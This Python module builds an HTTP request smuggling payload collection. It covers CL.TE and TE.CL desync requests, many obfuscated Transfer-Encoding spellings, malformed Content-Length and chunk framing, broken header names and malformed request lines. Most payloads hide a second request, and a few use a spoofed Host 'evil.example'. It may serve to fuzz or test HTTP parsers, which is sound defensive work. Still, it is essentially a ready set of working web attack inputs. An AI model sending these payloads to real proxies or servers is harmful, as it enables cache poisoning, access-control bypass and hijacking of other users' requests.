"""Requests that two servers may read differently (request smuggling), written by class.

``{at}`` stands for the origin's address. The word SMUGGLED stands where a second request hides.
"""

from __future__ import annotations

HIDDEN = b"GET /SMUGGLED HTTP/1.1\r\nHost: {at}\r\n\r\n"
_HEAD = b"POST http://{at}/first HTTP/1.1\r\nHost: {at}\r\n"
_CHUNKED_END = b"0\r\n\r\n"
_GET = b"GET http://{at}/first HTTP/1.1"


def _both(transfer: bytes) -> tuple[bytes, bytes]:
    """CL.TE (the length covers all, the chunks end early), and TE.CL the other way round."""
    whole = _CHUNKED_END + HIDDEN
    fields = b"Content-Length: %d\r\n%b\r\n"
    first = _HEAD + fields % (len(whole), transfer) + whole
    chunked = b"%x\r\n%b\r\n" % (len(HIDDEN), HIDDEN) + _CHUNKED_END
    second = _HEAD + fields % (4, transfer) + chunked
    return first, second


TRANSFER_SPELLINGS = {
    "plain": b"Transfer-Encoding: chunked\r\n",
    "capitals": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "blank before colon": b"Transfer-Encoding : chunked\r\n",
    "tab before colon": b"Transfer-Encoding\t: chunked\r\n",
    "tab before value": b"Transfer-Encoding:\tchunked\r\n",
    "vertical tab": b"Transfer-Encoding: \x0bchunked\r\n",
    "form feed": b"Transfer-Encoding: chunked\x0c\r\n",
    "unknown": b"Transfer-Encoding: xchunked\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\n',
    "parameter": b"Transfer-Encoding: chunked;q=1\r\n",
    "identity first": b"Transfer-Encoding: identity, chunked\r\n",
    "identity last": b"Transfer-Encoding: chunked, identity\r\n",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "twice, differing": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked\r\n",
    "twice, differing, other order": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n",
    "list of two": b"Transfer-Encoding: chunked, chunked\r\n",
    "empty": b"Transfer-Encoding: \r\n",
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded name": b"Transfer-Encoding\r\n : chunked\r\n",
    "behind a bare LF": b"X: x\nTransfer-Encoding: chunked\r\n",
    "behind a bare CR": b"X: x\rTransfer-Encoding: chunked\r\n",
    "NUL in the value": b"Transfer-Encoding: chun\x00ked\r\n",
    "NUL in the name": b"Transfer-\x00Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\n",
    "leading blank": b" Transfer-Encoding: chunked\r\n",
    "bytes beyond ASCII": b"Transfer-Encoding: chunked\xff\r\n",
    "long s": "Transfer-Encoding: chun\u212aed\r\n".encode(),
}

LENGTHS = {
    "twice, equal": b"Content-Length: 5\r\nContent-Length: 5\r\n",
    "twice, differing": b"Content-Length: 5\r\nContent-Length: 0\r\n",
    "list, equal": b"Content-Length: 5, 5\r\n",
    "list, differing": b"Content-Length: 5, 0\r\n",
    "plus": b"Content-Length: +5\r\n",
    "minus": b"Content-Length: -5\r\n",
    "hexadecimal": b"Content-Length: 0x5\r\n",
    "fraction": b"Content-Length: 5.0\r\n",
    "exponent": b"Content-Length: 5e0\r\n",
    "zeros": b"Content-Length: 0000000005\r\n",
    "empty": b"Content-Length: \r\n",
    "semicolon": b"Content-Length: 5;\r\n",
    "blank within": b"Content-Length: 5 0\r\n",
    "blank before colon": b"Content-Length : 5\r\n",
    "tab before colon": b"Content-Length\t: 5\r\n",
    "vertical tab": b"Content-Length: \x0b5\r\n",
    "NUL": b"Content-Length: 5\x00\r\n",
    "overflow": b"Content-Length: 18446744073709551621\r\n",
    "folded": b"Content-Length:\r\n 5\r\n",
    "arabic digit": "Content-Length: ٥\r\n".encode(),
    "underscore in digits": b"Content-Length: 0_5\r\n",
    "named hop-by-hop": b"Content-Length: 5\r\nConnection: Content-Length\r\n",
}

CHUNKS = {
    "extension": b"5;a=b\r\nhello\r\n" + _CHUNKED_END,
    "extension with LF": b"5;a=\nb\r\nhello\r\n" + _CHUNKED_END,
    "extension with CR": b"5;a=\rb\r\nhello\r\n" + _CHUNKED_END,
    "quoted extension with CRLF": b'5;a="\r\nb"\r\nhello\r\n' + _CHUNKED_END,
    "blank after size": b"5 \r\nhello\r\n" + _CHUNKED_END,
    "blank before size": b" 5\r\nhello\r\n" + _CHUNKED_END,
    "hexadecimal mark": b"0x5\r\nhello\r\n" + _CHUNKED_END,
    "plus": b"+5\r\nhello\r\n" + _CHUNKED_END,
    "minus": b"-5\r\nhello\r\n" + _CHUNKED_END,
    "underscore": b"0_5\r\nhello\r\n" + _CHUNKED_END,
    "no size": b"\r\nhello\r\n" + _CHUNKED_END,
    "overflow": b"10000000000000005\r\nhello\r\n" + _CHUNKED_END,
    "LF after size": b"5\nhello\r\n" + _CHUNKED_END,
    "CR after size": b"5\rhello\r\n" + _CHUNKED_END,
    "LF after data": b"5\r\nhello\n" + _CHUNKED_END,
    "nothing after data": b"5\r\nhello" + _CHUNKED_END,
    "two more bytes": b"5\r\nhelloXY\r\n" + _CHUNKED_END,
    "LF at the end": b"5\r\nhello\r\n0\n\n",
    "field of framing as trailer": b"5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
    "no end": b"5\r\nhello\r\n0\r\nX",
}

NAMES = {
    "leading blank": b" X: y\r\n",
    "leading tab": b"\tX: y\r\n",
    "blank within": b"Content Length: 5\r\n",
    "empty": b": y\r\n",
    "no colon": b"nonsense\r\n",
    "NUL": b"X\x00Y: y\r\n",
    "parenthesis": b"X(Y): y\r\n",
    "beyond ASCII": b"X\xff: y\r\n",
    "CR within": b"X\rY: y\r\n",
    "CR at the end of a value": b"X: y\r\r\n",
    "second request in a value": b"X: y\r\r\n\r\nGET /SMUGGLED HTTP/1.1\r\n",
}

LINES = {
    "LF alone": b"GET http://{at}/first HTTP/1.1\nHost: {at}\n\n",
    "CR alone": b"GET http://{at}/first HTTP/1.1\rHost: {at}\r\r",
    "LF at the last line": b"GET http://{at}/first HTTP/1.1\r\nHost: {at}\n\r\n",
    "two blanks": b"GET  http://{at}/first  HTTP/1.1\r\nHost: {at}\r\n\r\n",
    "tab": b"GET\thttp://{at}/first\tHTTP/1.1\r\nHost: {at}\r\n\r\n",
    "NUL in the target": b"GET http://{at}/first\x00 HTTP/1.1\r\nHost: {at}\r\n\r\n",
    "blank in the target": b"GET http://{at}/fi rst HTTP/1.1\r\nHost: {at}\r\n\r\n",
    "CR in the target": b"GET http://{at}/fi\rrst HTTP/1.1\r\nHost: {at}\r\n\r\n",
    "second line in the target": _GET + b"\r\nX: y HTTP/1.1\r\nHost: {at}\r\n\r\n",
    "no version": b"GET http://{at}/first\r\nHost: {at}\r\n\r\n",
    "version 2": b"GET http://{at}/first HTTP/2.0\r\nHost: {at}\r\n\r\n",
    "version 1.9": b"GET http://{at}/first HTTP/1.9\r\nHost: {at}\r\n\r\n",
    "preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "two hosts": b"GET http://{at}/first HTTP/1.1\r\nHost: {at}\r\nHost: evil.example\r\n\r\n",
    "another host": b"GET http://{at}/first HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "no host": b"GET http://{at}/first HTTP/1.1\r\nX: y\r\n\r\n",
    "host with a blank": b"GET http://{at}/first HTTP/1.1\r\nHost: a b\r\n\r\n",
    "host named hop-by-hop": _GET + b"\r\nHost: {at}\r\nConnection: Host\r\n\r\n",
    "version 1.0 with chunks": (
        b"POST http://{at}/first HTTP/1.0\r\nHost: {at}\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"5\r\nhello\r\n0\r\n\r\n"
    ),
    "body of GET": _GET + b"\r\nHost: {at}\r\nContent-Length: 5\r\n\r\nhello",
    "body of HEAD in chunks": (
        b"HEAD http://{at}/first HTTP/1.1\r\nHost: {at}\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"5\r\nhello\r\n0\r\n\r\n"
    ),
    "upgrade with a hidden request": (
        _GET + b"\r\nHost: {at}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"HTTP2-Settings: AAMAAABk\r\nContent-Length: 40\r\n\r\n" + HIDDEN
    ),
}


def all_payloads() -> dict[str, bytes]:
    """Every payload by its class and name."""
    found: dict[str, bytes] = {}
    for name, spelling in TRANSFER_SPELLINGS.items():
        found[f"CL.TE, {name}"], found[f"TE.CL, {name}"] = _both(spelling)
    for name, lengths in LENGTHS.items():
        found[f"length, {name}"] = _HEAD + lengths + b"\r\nhello" + HIDDEN
    for name, chunks in CHUNKS.items():
        found[f"chunk, {name}"] = _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + HIDDEN
    for name, field in NAMES.items():
        found[f"name, {name}"] = _HEAD + field + b"Content-Length: 5\r\n\r\nhello"
    found |= {f"line, {name}": line for name, line in LINES.items()}
    return found
